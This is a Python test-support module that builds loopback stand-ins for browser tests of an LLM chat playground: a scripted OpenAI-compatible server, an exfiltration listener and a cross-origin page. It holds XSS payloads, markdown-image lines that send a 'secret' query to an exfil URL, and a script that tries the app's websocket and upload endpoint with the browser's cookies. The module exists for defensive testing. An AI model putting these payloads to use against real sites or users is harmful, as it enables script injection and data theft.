"""Stand-ins for the browser tests: an OpenAI-compatible server scripted per model name, an exfil listener,
and a page of another origin on this machine.

Both are loopback stand-ins (no cloud API can run here): the first speaks the OpenAI
chat-completions SSE format through tests/standins/openai_sse.py and answers each `openai:<model>`
target with one scripted behaviour; the second only counts the requests it receives.
"""

from __future__ import annotations

import json

from tests.standins._loopback import LoopbackServer
from tests.standins.openai_sse import OpenAIStandIn, Reply


def xss_chunks(exfil_url: str) -> tuple[str, ...]:
    """Model output that would run script or fetch a URL if it reached the DOM as HTML."""
    return (
        "Here you go. ",
        "<img src=x onerror=alert(1)> ",
        "<script>alert('s')</script> ",
        "[x](javascript:alert(1)) ",
        "<svg/onload=alert(2)> ",
        f"![x]({exfil_url}/exfil?q=secret) ",
        f"<img src=\"{exfil_url}/exfil?q=html\"> ",
        "<iframe src=javascript:alert(3)></iframe> ",
        "done.",
    )


class ScriptedStandIn(OpenAIStandIn):
    """One OpenAI-compatible server, one behaviour per model name (`openai:standin-xss`, ...)."""

    MODELS = ("standin-echo", "standin-xss", "standin-auth", "standin-quota", "standin-slow", "standin-cut",
              "standin-payload", "standin-payload-error")

    def __init__(self, *, echo_key: str):
        super().__init__(models=self.MODELS)
        # a careless real server echoes the key it refused; our app must not show it
        self.echo_key = echo_key
        self.exfil_url = ""
        # what `standin-payload` answers and `standin-payload-error` puts in its error body (set by a test)
        self.payload = ""

    def reply_for(self, model: str) -> Reply:
        """The scripted answer for one model name."""
        if model == "standin-xss":
            return Reply(chunks=xss_chunks(self.exfil_url))
        if model == "standin-auth":
            return Reply.error(401, f"Incorrect API key provided: {self.echo_key}.", code="invalid_api_key")
        if model == "standin-quota":
            return Reply.error(429, "You have exceeded your daily quota for this model.",
                               headers={"Retry-After": "3600", "x-ratelimit-type": "UserByDay"})
        if model == "standin-slow":
            # a server that trickles: one word every 0.4 s for about a minute
            return Reply.text(" ".join(["slowly"] * 150), token_delay=0.4)
        if model == "standin-payload":
            # in 2,000-character pieces, so a long payload streams in a few hundred events, not one per word
            return Reply(chunks=tuple(self.payload[i:i + 2000] for i in range(0, len(self.payload), 2000)))
        if model == "standin-payload-error":
            return Reply.error(400, self.payload)
        if model == "standin-cut":
            return Reply.text("This answer is cut off right in the middle of it", cut_after=4)
        return Reply.text("Hello from the stand-in server.")

    def handle(self, h, req) -> None:
        path = req.path.split("?")[0]
        if req.method == "POST" and path.endswith("/chat/completions"):
            self._chat(h, req, self.reply_for((req.json or {}).get("model", "")))
        else:
            super().handle(h, req)


class ExfilListener(LoopbackServer):
    """Counts every request; answers each with an empty 204 so a fetch would succeed silently."""

    def handle(self, h, req) -> None:
        h.send_response(204)
        h.send_header("Content-Length", "0")
        h.end_headers()


# a page of another local app: its script tries the playground's websocket and upload endpoint, with the
# browser's cookies, and writes down what came back
OTHER_ORIGIN_PAGE = """<!doctype html><title>another app on this machine</title><script>
const app = %s;
window.outcome = {};
const ws = new WebSocket(app.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
ws.onopen = () => { outcome.ws = "open"; };
ws.onmessage = () => { outcome.received = true; };
ws.onclose = e => { outcome.ws = outcome.ws || "closed " + e.code; };
const upload = app + "/_stcore/upload_file/any-session/any-file";
fetch(upload, {method: "PUT", credentials: "include", body: "x"})
  .then(r => { outcome.put = r.status; }, () => { outcome.put = "failed"; });
fetch(upload, {method: "POST", mode: "no-cors", credentials: "include", body: "x"})
  .then(() => { outcome.post = "sent"; }, () => { outcome.post = "failed"; });
</script><p>another app</p>"""


class OtherOriginPage(LoopbackServer):
    """A stdlib HTTP server on another loopback port serving OTHER_ORIGIN_PAGE aimed at `app_url`."""

    def __init__(self, app_url: str):
        super().__init__()
        self.page = (OTHER_ORIGIN_PAGE % json.dumps(app_url)).encode()

    def handle(self, h, req) -> None:
        h.send_response(200)
        h.send_header("Content-Type", "text/html; charset=utf-8")
        h.send_header("Content-Length", str(len(self.page)))
        h.end_headers()
        h.wfile.write(self.page)
